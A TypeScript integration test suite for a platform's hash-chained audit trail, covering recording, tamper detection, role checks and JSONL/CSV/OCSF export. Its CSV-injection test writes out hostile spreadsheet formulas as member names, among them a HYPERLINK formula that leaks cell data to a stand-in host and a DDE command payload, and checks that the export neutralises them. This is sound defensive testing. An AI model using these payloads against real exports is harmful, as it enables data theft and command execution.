import { parse as parseCsv } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Actor } from '../helpers/api-client.ts';
import { buildApiKey, buildCredential, buildMember, CREDENTIAL_SECRET } from '../helpers/factories.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';

/**
 * The workspace audit trail through the API: every wired administrative change leaves a
 * chained record with its actor and old/new values and no secret; `info` counts and verifies
 * (and names a tampered record); `export` streams JSON lines, CSV and OCSF, filtered by time
 * and action, merged with the vault's credential records; roles and workspace isolation.
 */

let t: TestApp;
let alice: Actor;
let bob: Actor;

beforeAll(async () => {
  t = await createTestApp();
  alice = await t.newWorkspace('audit-alice');
  bob = await t.newWorkspace('audit-bob');
});
afterAll(() => t.close());

interface Entry {
  source: 'workspace' | 'vault';
  id: number;
  time: string;
  actor: { id: string | null; kind: string };
  action: string;
  target: { type: string; id: string };
  changes: Record<string, { old: unknown; new: unknown }>;
  request_id: string | null;
  ip_address: string | null;
  prev_hash: string;
  hash: string;
}

const exportOf = (actor: Actor, body: Record<string, unknown>) =>
  t.call(actor, 'POST', '/api/settings/audit/export', body);

async function entries(actor: Actor, body: Record<string, unknown> = {}): Promise<Entry[]> {
  const response = await exportOf(actor, { format: 'jsonl', ...body });
  expect(response.statusCode, response.body).toBe(200);
  return response.body
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as Entry);
}

const info = async (actor: Actor) => {
  const response = await t.call(actor, 'GET', '/api/settings/audit/info');
  expect(response.statusCode, response.body).toBe(200);
  return response.json();
};

describe('recording administrative changes', () => {
  it('records members, roles, API keys, flags, settings, providers and the schedule, with no secret', async () => {
    const owner = await t.newWorkspace('audit-owner');
    const member = await buildMember(t, owner, { role: 'member' });
    expect(
      (await t.call(owner, 'PUT', `/api/workspaces/members/${member.userId}`, { role: 'admin' })).statusCode,
    ).toBe(200);
    expect((await t.call(owner, 'DELETE', `/api/workspaces/members/${member.userId}`)).statusCode).toBe(204);
    const key = await buildApiKey(t, owner, { name: 'ci key' });
    expect((await t.call(owner, 'DELETE', `/api/workspaces/api-keys/${key.id}`)).statusCode).toBe(204);
    const flag = { type: 'boolean', default: false };
    expect((await t.call(owner, 'PUT', '/api/settings/flags/beta.banner', flag)).statusCode).toBe(200);
    expect(
      (await t.call(owner, 'PUT', '/api/settings/flags/beta.banner', { ...flag, enabled: false })).statusCode,
    ).toBe(200);
    const settings = await t.call(owner, 'PUT', '/api/credentials/settings', {
      archive_audit_on_delete: false,
    });
    expect(settings.statusCode, settings.body).toBe(200);
    const providers = await t.call(owner, 'PUT', '/api/settings/providers', {
      providers: [{ id: 'ext', kind: 'openai_compatible', base_url: 'https://8.8.8.8/v1' }],
      default_model: { provider: 'ext', name: 'm1' },
    });
    expect(providers.statusCode, providers.body).toBe(200);
    const schedule = await t.call(owner, 'PUT', '/api/playbooks/schedule', { cron: '30 3 * * 1' });
    expect(schedule.statusCode, schedule.body).toBe(200);
    await buildCredential(t, owner);

    const all = await entries(owner);
    const own = all.filter((entry) => entry.source === 'workspace');
    expect(own.map((entry) => entry.action)).toEqual([
      'workspace.created',
      'member.added',
      'role.changed',
      'member.removed',
      'api_key.created',
      'api_key.revoked',
      'flag.created',
      'flag.updated',
      'settings.updated',
      'providers.updated',
      'playbook_schedule.updated',
    ]);
    for (const entry of own) {
      expect(entry.actor).toEqual({ id: owner.userId, kind: 'user' });
      expect(entry.prev_hash).toMatch(/^([0-9a-f]{64})?$/);
      expect(entry.hash).toMatch(/^[0-9a-f]{64}$/);
    }
    // Requests carry their id and address; the workspace's creation (no request) does not.
    expect(own.slice(1).every((entry) => entry.request_id && entry.ip_address)).toBe(true);
    const by = (action: string) => own.find((entry) => entry.action === action) as Entry;
    expect(by('member.added')).toMatchObject({
      target: { type: 'member', id: member.userId },
      changes: { role: { old: null, new: 'member' } },
    });
    expect(by('role.changed').changes).toEqual({ role: { old: 'member', new: 'admin' } });
    expect(by('member.removed').changes).toEqual({ role: { old: 'admin', new: null } });
    expect(by('api_key.created')).toMatchObject({
      target: { type: 'api_key', id: key.id },
      changes: { name: { old: null, new: 'ci key' }, prefix: { old: null, new: key.prefix } },
    });
    expect(by('api_key.revoked').changes.revoked_at?.old).toBeNull();
    expect(by('flag.created').changes.type).toEqual({ old: null, new: 'boolean' });
    expect(by('flag.updated').changes).toMatchObject({
      enabled: { old: true, new: false },
      version: { old: 1, new: 2 },
    });
    expect(by('settings.updated')).toMatchObject({
      target: { type: 'settings', id: 'credentials' },
      changes: { archive_audit_on_delete: { old: true, new: false } },
    });
    expect(by('providers.updated').changes.default_model).toEqual({
      old: null,
      new: { provider: 'ext', name: 'm1' },
    });
    expect(by('playbook_schedule.updated').changes.cron).toEqual({ old: null, new: '30 3 * * 1' });
    // The vault's own record of the credential is in the same stream, marked with its origin.
    expect(all.filter((entry) => entry.source === 'vault').map((entry) => entry.action)).toContain(
      'credential.created',
    );

    // No secret anywhere: not the API key, its hash, nor the credential's password.
    const [stored] = await t.rows<{ key_hash: string }>(
      sql`select key_hash from api_keys where id = ${key.id}`,
    );
    for (const format of ['jsonl', 'csv', 'ocsf']) {
      const body = (await exportOf(owner, { format })).body;
      expect(body).not.toContain(key.key);
      expect(body).not.toContain(stored?.key_hash);
      expect(body).not.toContain(CREDENTIAL_SECRET);
    }

    const summary = await info(owner);
    expect(summary).toMatchObject({
      total: own.length,
      by_action: { 'flag.created': 1, 'flag.updated': 1, 'member.added': 1 },
      oldest_at: own[0]?.time,
      newest_at: own.at(-1)?.time,
      retention: { days: null },
      chain: { verified: true, checked: own.length },
    });
  });

  it('records an API-key caller as kind api_key', async () => {
    const owner = await t.newWorkspace('audit-keyed');
    const key = await buildApiKey(t, owner);
    const response = await t.call(
      owner,
      'PUT',
      '/api/settings/flags/via.key',
      { type: 'boolean', default: true },
      {
        headers: { 'x-api-key': key.key, 'x-workspace-id': owner.workspaceId },
      },
    );
    expect(response.statusCode, response.body).toBe(200);
    const [entry] = await entries(owner, { actions: ['flag.created'] });
    expect(entry?.actor).toEqual({ id: owner.userId, kind: 'api_key' });
  });

  it('records the request id the client sent, at its longest', async () => {
    const owner = await t.newWorkspace('audit-request-id');
    const requestId = `r${'x'.repeat(127)}`;
    const response = await t.call(
      owner,
      'PUT',
      '/api/settings/flags/req.id',
      { type: 'boolean', default: true },
      { headers: { 'x-request-id': requestId } },
    );
    expect(response.statusCode, response.body).toBe(200);
    const [entry] = await entries(owner, { actions: ['flag.created'] });
    expect(entry?.request_id).toBe(requestId);
  });

  it('keeps one chain under concurrent writers', async () => {
    const owner = await t.newWorkspace('audit-race');
    const writes = await Promise.all(
      Array.from({ length: 12 }, (_, i) =>
        t.call(owner, 'PUT', `/api/settings/flags/race.f${i}`, { type: 'boolean', default: false }),
      ),
    );
    expect(writes.map((response) => response.statusCode)).toEqual(writes.map(() => 200));
    const summary = await info(owner);
    expect(summary.total).toBe(13);
    expect(summary.chain).toEqual({ verified: true, checked: 13 });
    const chain = await entries(owner);
    expect(new Set(chain.map((entry) => entry.prev_hash)).size).toBe(13);
  });

  it('writes nothing when the change fails', async () => {
    const owner = await t.newWorkspace('audit-rollback');
    const duplicate = await buildMember(t, owner);
    const again = await t.call(owner, 'POST', '/api/workspaces/members', {
      user_id: duplicate.userId,
      role: 'member',
    });
    expect(again.statusCode).toBe(409);
    expect((await info(owner)).by_action['member.added']).toBe(1);
  });

  it('records policy versions, A/B test changes and tenant changes', async () => {
    const owner = await t.newWorkspace('audit-policies');
    const body = { sections: [{ name: 'persona', kind: 'persona', text: 'Be brief.' }] };
    expect((await t.call(owner, 'PUT', '/api/policy/support', body)).statusCode).toBe(201);
    const second = { sections: [{ name: 'persona', kind: 'persona', text: 'Be thorough.' }] };
    expect((await t.call(owner, 'PUT', '/api/policy/support', second)).statusCode).toBe(200);
    const set = await t.call(owner, 'POST', '/api/policy/abtest/set', {
      policy_a: { policy_id: 'support', version: 1 },
      policy_b: { policy_id: 'support', version: 2 },
    });
    expect(set.statusCode, set.body).toBe(200);
    const tenants = await t.call(owner, 'GET', '/api/settings/tenants');
    expect(tenants.statusCode, tenants.body).toBe(200);
    const tenant = tenants.json().items[0];
    const renamed = await t.call(owner, 'PUT', `/api/settings/tenants/${tenant.id}`, {
      name: 'Audited tenant',
    });
    expect(renamed.statusCode, renamed.body).toBe(200);

    const recorded = await entries(owner);
    const actions = recorded.map((entry) => entry.action);
    expect(actions).toEqual(
      expect.arrayContaining([
        'policy.created',
        'policy.version_created',
        'experiment.created',
        'tenant.updated',
      ]),
    );
    const version = recorded.find((entry) => entry.action === 'policy.version_created');
    expect(version).toMatchObject({
      actor: { id: 'audit-policies' },
      target: { type: 'policy', id: 'support' },
      changes: { version: { old: 1, new: 2 } },
    });
    expect((await info(owner)).chain.verified).toBe(true);
  });
});

describe('GET /api/settings/audit/info', () => {
  it('reports a tampered record as the first broken one', async () => {
    const owner = await t.newWorkspace('audit-tamper');
    for (const key of ['a.one', 'a.two', 'a.three']) {
      await t.call(owner, 'PUT', `/api/settings/flags/${key}`, { type: 'boolean', default: false });
    }
    const chain = (await entries(owner)).filter((entry) => entry.source === 'workspace');
    const victim = chain[2] as Entry;
    await t.rows(sql`update audit_records set changes = '{"forged": true}'::jsonb where id = ${victim.id}`);
    expect((await info(owner)).chain).toMatchObject({
      verified: false,
      checked: 2,
      first_broken_id: victim.id,
      reason: 'content does not match its hash',
    });
  });

  it('notices the newest records deleted', async () => {
    const owner = await t.newWorkspace('audit-truncate');
    await t.call(owner, 'PUT', '/api/settings/flags/t.one', { type: 'boolean', default: false });
    const last = (await entries(owner)).at(-1) as Entry;
    await t.rows(sql`delete from audit_records where id = ${last.id}`);
    expect((await info(owner)).chain).toMatchObject({ verified: false, first_broken_id: last.id });
  });

  it('is for admins and owners: viewers and members get 403', async () => {
    const admin = await buildMember(t, alice, { role: 'admin' });
    expect((await t.call(admin, 'GET', '/api/settings/audit/info')).statusCode).toBe(200);
    for (const role of ['viewer', 'member'] as const) {
      const who = await buildMember(t, alice, { role });
      for (const response of [
        await t.call(who, 'GET', '/api/settings/audit/info'),
        await exportOf(who, { format: 'jsonl' }),
      ]) {
        expect(response.statusCode).toBe(403);
        expect(response.json().code).toBe('insufficient_role');
      }
    }
  });
});

describe('POST /api/settings/audit/export', () => {
  it('streams JSON lines as an attachment', async () => {
    const response = await exportOf(alice, { format: 'jsonl' });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toMatch(/^application\/x-ndjson/);
    expect(response.headers['content-disposition']).toMatch(
      new RegExp(`^attachment; filename="audit-${alice.workspaceId}-\\d{4}-\\d{2}-\\d{2}\\.jsonl"$`),
    );
  });

  it('writes RFC 4180 CSV with a header row that a CSV parser reads back', async () => {
    const owner = await t.newWorkspace('audit-csv');
    // A description with a comma, quotes and a newline must survive the quoting.
    await t.call(owner, 'PUT', '/api/settings/flags/csv.flag', {
      type: 'string',
      default: 'a,b',
      description: 'say "hi",\nthen leave',
    });
    const response = await exportOf(owner, { format: 'csv' });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    expect(response.headers['content-disposition']).toMatch(/\.csv"$/);
    const rows = parseCsv(response.body, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0] ?? {})).toEqual([
      'source',
      'id',
      'time',
      'actor_id',
      'actor_kind',
      'action',
      'target_type',
      'target_id',
      'changes',
      'request_id',
      'ip_address',
      'prev_hash',
      'hash',
    ]);
    const flagRow = rows.find((row) => row.action === 'flag.created');
    expect(JSON.parse(flagRow?.changes ?? '{}').description).toEqual({
      old: null,
      new: 'say "hi",\nthen leave',
    });
    expect(rows).toHaveLength((await entries(owner)).length);
  });

  it('neutralises every cell a spreadsheet would run as a formula (OWASP CSV injection)', async () => {
    // Whoever names a user, a member or a request chooses the first character of a cell.
    const owner = await t.newWorkspace('=HYPERLINK("http://evil.example/?"&A1,"open")');
    const members = ["+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
    for (const user_id of members) {
      const added = await t.call(owner, 'POST', '/api/workspaces/members', { user_id, role: 'member' });
      expect(added.statusCode, added.body).toBe(201);
    }
    const flagged = await t.call(
      owner,
      'PUT',
      '/api/settings/flags/csv.formula',
      { type: 'boolean', default: false },
      { headers: { 'x-request-id': '-1-1' } },
    );
    expect(flagged.statusCode, flagged.body).toBe(200);
    const response = await exportOf(owner, { format: 'csv' });
    expect(response.statusCode).toBe(200);
    const rows = parseCsv(response.body, { columns: true }) as Record<string, string>[];
    const cells = rows.flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(rows.map((row) => row.actor_id)).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"open")`);
    expect(rows.filter((row) => row.action === 'member.added').map((row) => row.target_id)).toEqual(
      expect.arrayContaining(members.map((id) => `'${id}`)),
    );
    expect(rows.find((row) => row.action === 'flag.created')?.request_id).toBe("'-1-1");
  });

  it('writes OCSF API Activity events', async () => {
    const owner = await t.newWorkspace('audit-ocsf');
    const member = await buildMember(t, owner);
    const response = await exportOf(owner, { format: 'ocsf', actions: ['member.added'] });
    expect(response.statusCode).toBe(200);
    const events = response.body
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({
      class_uid: 6003,
      category_uid: 6,
      activity_id: 1,
      type_uid: 600301,
      severity_id: 1,
      status: 'Success',
      actor: { user: { uid: owner.userId } },
      api: { operation: 'member.added', request: { uid: expect.any(String) } },
      src_endpoint: { ip: expect.any(String) },
      metadata: { product: { name: 'agent-platform', version: expect.any(String) }, version: '1.3.0' },
      unmapped: {
        target: { type: 'member', id: member.userId },
        changes: { role: { old: null, new: 'member' } },
      },
    });
    expect(typeof events[0].time).toBe('number');
  });

  it('filters by time range and by action', async () => {
    const owner = await t.newWorkspace('audit-range');
    await t.call(owner, 'PUT', '/api/settings/flags/r.one', { type: 'boolean', default: false });
    const all = await entries(owner);
    const middle = all.find((entry) => entry.action === 'flag.created') as Entry;
    await new Promise((resolve) => setTimeout(resolve, 5));
    await t.call(owner, 'PUT', '/api/settings/flags/r.two', { type: 'boolean', default: false });
    const after = await entries(owner, { from: middle.time });
    expect(after.map((entry) => entry.action)).toEqual(['flag.created', 'flag.created']);
    const before = await entries(owner, { to: middle.time });
    expect(before.map((entry) => entry.action)).toEqual(['workspace.created']);
    const window = await entries(owner, {
      from: middle.time,
      to: new Date(Date.parse(middle.time) + 1).toISOString(),
    });
    expect(window.map((entry) => entry.id)).toEqual([middle.id]);
    const created = await entries(owner, { actions: ['workspace.created', 'credential.created'] });
    expect(created.map((entry) => entry.action)).toEqual(['workspace.created']);
  });

  it('names the bad field', async () => {
    for (const [body, field] of [
      [{ format: 'xml' }, 'body.format'],
      [{}, 'body.format'],
      [{ format: 'csv', from: 'yesterday' }, 'body.from'],
      [{ format: 'csv', actions: ['DROP TABLE'] }, 'body.actions.0'],
      [{ format: 'csv', from: '2026-02-01T00:00:00Z', to: '2026-01-01T00:00:00Z' }, 'body.to'],
    ] as const) {
      const response = await exportOf(alice, body);
      expect(response.statusCode, JSON.stringify(body)).toBe(400);
      expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(JSON.stringify(response.json().errors)).toContain(field);
    }
  });

  it('never shows another workspace’s records', async () => {
    await t.call(alice, 'PUT', '/api/settings/flags/alice.only', { type: 'boolean', default: false });
    await buildCredential(t, alice);
    const bobs = await entries(bob);
    expect(bobs.map((entry) => entry.action)).toEqual(['workspace.created']);
    expect(bobs.every((entry) => entry.target.id !== alice.workspaceId)).toBe(true);
    expect((await info(bob)).total).toBe(1);
    const alices = await entries(alice);
    expect(alices.some((entry) => entry.source === 'vault')).toBe(true);
    expect(alices.some((entry) => JSON.stringify(entry).includes(bob.workspaceId))).toBe(false);
  });
});
